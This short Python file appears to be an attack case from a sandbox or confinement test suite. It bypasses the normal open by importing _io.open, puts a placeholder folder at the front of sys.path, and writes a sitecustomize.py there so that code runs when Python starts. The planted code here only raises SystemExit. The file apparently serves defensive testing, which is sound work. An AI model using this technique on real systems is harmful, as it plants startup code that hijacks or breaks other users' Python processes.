# attack: leaves code in a folder that Python imports from
# class: files
# success: dropped
# control: unconfined
from _io import open  # not the one that is there for comfort
import sys
def f(x, note):
    sys.path.insert(0, "@drop@")
    with open("@drop@/sitecustomize.py", "w") as code:
        code.write("raise SystemExit")
